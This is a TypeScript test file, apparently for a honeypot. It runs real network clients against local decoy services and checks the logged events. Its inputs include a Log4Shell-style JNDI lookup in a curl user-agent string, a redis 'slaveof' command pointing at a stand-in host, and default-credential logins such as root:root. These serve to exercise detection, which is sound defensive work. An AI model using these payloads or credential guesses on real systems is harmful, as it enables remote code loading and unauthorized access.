import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { isInstalled, ran } from './testing/client.ts'
import { type Opened, opened, profileOf } from './testing/opened.ts'

/** Real clients of Debian's packages speak with the decoys, each as its user would start it. */
interface Client {
  program: string
  words: (at: (port: number) => string) => string[]
  input?: string
  env?: Record<string, string>
  prints: RegExp
  events: Record<string, unknown>[]
}

const host = '127.0.0.1'
const clients: Client[] = [
  {
    program: 'curl',
    words: (at) => [
      '-s',
      '-i',
      '-u',
      'root:root',
      '-A',
      '${jndi:ldap://192.0.2.9/a}',
      `http://${host}:${at(80)}/`,
    ],
    prints: /HTTP\/1\.1 200 OK[\s\S]*Server: lighttpd\/1\.4\.35[\s\S]*<title>Status/,
    events: [
      { kind: 'link', url: 'ldap://192.0.2.9/a' },
      { kind: 'login', user: 'root', password: 'root' },
    ],
  },
  {
    program: 'curl',
    words: (at) => ['-sk', '-d', 'username=admin&password=1234', `https://${host}:${at(443)}/login`],
    prints: /<title>Status/,
    events: [
      { kind: 'login', user: 'admin', password: '1234', accepted: false },
      { kind: 'clear', protocol: 'https' },
    ],
  },
  {
    program: 'curl',
    words: (at) => ['-s', '-u', 'root:root', `imap://${host}:${at(143)}/`],
    prints: /INBOX/,
    events: [
      { kind: 'login', protocol: 'imap', user: 'root', password: 'root', accepted: true },
      { text: 'LIST "" *' },
    ],
  },
  {
    program: 'redis-cli',
    words: (at) => ['-h', host, '-p', at(6379), 'slaveof', '192.0.2.9', '6379'],
    prints: /ERR operation not permitted/,
    events: [{ kind: 'command', text: 'slaveof 192.0.2.9 6379' }],
  },
  {
    program: 'psql',
    words: (at) => ['-h', host, '-p', at(5432), '-U', 'root', '-d', 'postgres', '-Atc', 'select version()'],
    env: { PGPASSWORD: 'root' },
    prints: /^PostgreSQL 13\.11/,
    events: [{ kind: 'login', user: 'root', password: 'root', accepted: true }, { text: 'select version()' }],
  },
  {
    program: 'mysql',
    words: (at) => [
      '-h',
      host,
      '-P',
      at(3306),
      '--protocol=tcp',
      '-u',
      'root',
      '-proot',
      '-N',
      '-e',
      'select version()',
    ],
    prints: /5\.7\.42/,
    events: [{ kind: 'login', user: 'root', password: 'root', accepted: true }, { text: 'select version()' }],
  },
  {
    program: 'ftp',
    words: (at) => ['-n', host, at(21)],
    input: 'user root root\npwd\nquit\n',
    prints: /Remote directory: \//,
    events: [{ kind: 'login', protocol: 'ftp', user: 'root', password: 'root', accepted: true }],
  },
  {
    program: 'smbclient',
    words: (at) => ['-s', '/dev/null', '-p', at(445), '-U', 'guest%guest', '-L', `//${host}`],
    prints: /Sharename/,
    events: [{ kind: 'login', protocol: 'smb', accepted: true }, { kind: 'command' }],
  },
  {
    program: 'ssh',
    words: (at) =>
      `-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p ${at(22)} guest@${host} id`.split(
        ' ',
      ),
    // The password is the question for it, said again.
    env: { SSH_ASKPASS: '/bin/echo', SSH_ASKPASS_REQUIRE: 'force' },
    prints: /uid=1000\(guest\)/,
    events: [
      { kind: 'login', protocol: 'ssh', user: 'guest', accepted: true },
      { kind: 'command', text: 'id' },
    ],
  },
  {
    program: 'nmap',
    words: (at) => [
      '-n',
      '-Pn',
      '-sT',
      '-sV',
      '--version-intensity',
      '2',
      '-p',
      ['21', '22', '25', '80', '3306'].map((port) => at(Number(port))).join(','),
      host,
    ],
    prints:
      /vsftpd 3\.0\.3[\s\S]*OpenSSH 8\.9p1[\s\S]*Postfix smtpd[\s\S]*lighttpd 1\.4\.35[\s\S]*MySQL 5\.7\.42/,
    events: [],
  },
  {
    program: 'dig',
    words: (at) => ['+tries=1', '+time=5', '-p', at(53), `@${host}`, 'example.com'],
    prints: /status: REFUSED/,
    events: [{ kind: 'command', protocol: 'dns', text: 'A example.com' }],
  },
]

const missing = [...new Set(clients.map(({ program }) => program))].filter((program) => !isInstalled(program))
if (missing.length > 0)
  console.log(
    `Decoys are not tried with ${missing.join(', ')}: not installed here. Their recorded transcripts are (laws.test.ts).`,
  )

const page = { path: '*', status: 200, body: '<title>Status</title>' }
const ports = [
  ...(['ftp', 'ssh', 'smtp', 'imap', 'smb', 'mysql', 'postgresql', 'redis'] as const).map(
    (protocol, index) => ({
      port: [21, 22, 25, 143, 445, 3306, 5432, 6379][index]!,
      protocol,
    }),
  ),
  { port: 80, protocol: 'http', options: { server: 'lighttpd/1.4.35', responses: [page] } } as const,
  { port: 443, protocol: 'https', options: { responses: [page] } } as const,
  { port: 53, transport: 'udp', protocol: 'dns' } as const,
]

describe('real clients go on talking', () => {
  let open: Opened
  beforeAll(async () => {
    open = await opened(
      profileOf(ports, [
        { user: 'root', password: 'root' },
        { user: 'guest', password: '*' },
      ]),
    )
    expect(open.listening.filter(({ error }) => error !== null)).toEqual([])
  })
  afterAll(() => open.decoys.close())

  it('decoys listen for them', () => expect(open.listening.length).toBe(ports.length))

  for (const { program, words, input, env, prints, events } of clients.filter(
    (one) => !missing.includes(one.program),
  ))
    it(`${program} ${words((port) => String(port)).at(-1)}`, async () => {
      open.said.length = 0
      expect(
        await ran(
          program,
          words((port) => String(open.at(port))),
          input,
          env,
        ),
      ).toMatch(prints)
      expect(open.events()).toMatchObject(events)
      expect(open.decoys.losses()).toEqual({})
    })
})
